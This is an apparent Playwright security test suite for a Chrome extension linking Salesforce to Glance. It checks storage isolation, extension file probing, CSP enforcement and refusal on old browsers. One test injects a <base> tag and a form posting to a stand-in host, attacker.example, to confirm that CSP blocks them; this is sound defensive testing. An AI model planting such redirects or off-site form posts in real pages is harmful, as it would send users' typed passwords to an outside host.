// What a compromised Salesforce page could reach, checked in Chromium: the content script's world
// cannot read the extension's storage (the Glance credential), the extension pages run under a CSP
// stricter than MV3's default, and a browser that cannot lock storage gets no credential at all.
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { CDPSession } from '@playwright/test';
import { DIST_DIR } from '../support/chromium.js';
import { connectGlance, expect, LIGHTNING, type Page, test, toolbar } from './fixtures.js';
import { POPUP_PAGE } from './pages/extension-pages.js';

interface ExecutionContext {
  id: number;
  origin: string;
  auxData?: { type?: string };
}

/** The content script's isolated world on a page, through the DevTools protocol. */
async function contentScriptWorld(page: Page, extensionId: string, open: () => Promise<void>) {
  const cdp: CDPSession = await page.context().newCDPSession(page);
  const contexts: ExecutionContext[] = [];
  cdp.on('Runtime.executionContextCreated', ({ context }) => contexts.push(context as ExecutionContext));
  await cdp.send('Runtime.enable');
  await open();
  // Playwright's own utility worlds are isolated too: ours is the one whose origin is the extension.
  const world = contexts.findLast(
    (c) => c.auxData?.type === 'isolated' && c.origin === `chrome-extension://${extensionId}`,
  );
  if (!world) throw new Error('no content-script world on the page');
  return async (expression: string) => {
    const answer = await cdp.send('Runtime.evaluate', { contextId: world.id, expression, awaitPromise: true });
    return answer.exceptionDetails
      ? { error: String(answer.exceptionDetails.exception?.description ?? answer.exceptionDetails.text) }
      : { value: answer.result.value as unknown };
  };
}

test('a content script cannot read the stored Glance credential or the settings', async ({
  salesforcePage: page,
  control,
  context,
  extensionId,
  serviceWorker,
}) => {
  await connectGlance(context, extensionId);
  const credential = await serviceWorker.evaluate(
    async () =>
      ((await chrome.storage.local.get('glanceAccount')).glanceAccount as { credentials: string }).credentials,
  );
  expect(credential).toMatch(/^[0-9a-f]{32}$/);
  const [lead] = await control.records<{ Id: string }>('Lead');
  const evaluate = await contentScriptWorld(page, extensionId, async () => {
    await page.goto(`${LIGHTNING}/lightning/r/Lead/${lead?.Id}/view`);
    await expect(toolbar(page)).toBeVisible();
  });
  // The world is the content script's: it has the extension's runtime.
  expect(await evaluate('chrome.runtime.id')).toEqual({ value: extensionId });
  for (const area of ['local', 'sync']) {
    const read = await evaluate(`chrome.storage.${area}.get(null).then((items) => JSON.stringify(items))`);
    expect(read, area).toEqual({
      error: expect.stringContaining('Access to storage is not allowed from this context'),
    });
  }
});

test('a Salesforce page cannot load any file of the extension, so it cannot probe for it', async ({
  salesforcePage: page,
  control,
  extensionId,
}) => {
  const [lead] = await control.records<{ Id: string }>('Lead');
  await page.goto(`${LIGHTNING}/lightning/r/Lead/${lead?.Id}/view`);
  await expect(toolbar(page)).toBeVisible();
  const files = [
    ...readdirSync(join(DIST_DIR, 'assets')).map((file) => `assets/${file}`),
    'manifest.json',
    POPUP_PAGE,
    'icons/icon-16.png',
  ];
  const loaded = await page.evaluate(
    async (urls) => {
      const answers = await Promise.all(
        urls.map((url) =>
          fetch(url, { mode: 'no-cors' }).then(
            () => url,
            () => undefined,
          ),
        ),
      );
      return answers.filter(Boolean);
    },
    files.map((file) => `chrome-extension://${extensionId}/${file}`),
  );
  expect(files.length).toBeGreaterThan(5);
  expect(loaded).toEqual([]);
});

test('the extension pages refuse an injected <base> and form posts, beyond MV3 default CSP', async ({
  popupPage: popup,
}) => {
  // No inline script runs (the MV3 default, kept).
  const ran = await popup.evaluate(async () => {
    const script = Object.assign(document.createElement('script'), { textContent: 'window.inlineRan = true' });
    document.body.append(script);
    await new Promise((resolve) => setTimeout(resolve, 100));
    return (window as { inlineRan?: boolean }).inlineRan === true;
  });
  expect(ran).toBe(false);
  const violations = await popup.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
    // A <base> would turn every relative URL of the page towards another host.
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://attacker.example/' }));
    // A form posted elsewhere would carry what was typed into it (the Glance password).
    const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://attacker.example/' });
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 500));
    return seen.sort();
  });
  expect(violations).toEqual(['base-uri', 'form-action']);
});

test('a browser that cannot lock storage gets no credential: Connect says to update Chrome', async ({
  popupPage: popup,
  serviceWorker,
  control,
}) => {
  // As Chrome before 140, where storage.local has no access level to set (put back afterwards).
  const hide = (hidden: boolean) =>
    serviceWorker.evaluate((hidden) => {
      const saved = globalThis as { savedSetAccessLevel?: unknown };
      saved.savedSetAccessLevel ??= chrome.storage.local.setAccessLevel;
      Object.defineProperty(chrome.storage.local, 'setAccessLevel', {
        value: hidden ? undefined : saved.savedSetAccessLevel,
        configurable: true,
        writable: true,
      });
    }, hidden);
  await hide(true);
  try {
    // From a clean start as such a browser: the popup the fixture opened could still lock storage and
    // kept the last known company policy then (storage/policy.ts keeps none without the lock).
    await serviceWorker.evaluate(() => chrome.storage.local.clear());
    await popup.reload();
    await popup.getByLabel('Glance address').fill('acme.glance.net');
    await popup.getByLabel('Glance password').fill('correct-horse');
    await popup.getByRole('button', { name: 'Connect' }).click();
    await expect(
      popup.getByText('This browser is too old to keep your Glance credential safe. Update Chrome.'),
    ).toBeVisible();
    await expect(popup.getByTestId('glance-connected')).toHaveCount(0);
    expect(await serviceWorker.evaluate(async () => Object.keys(await chrome.storage.local.get(null)))).toEqual([]);
    expect(await control.log('glance')).toEqual([]);
  } finally {
    await hide(false);
  }
});
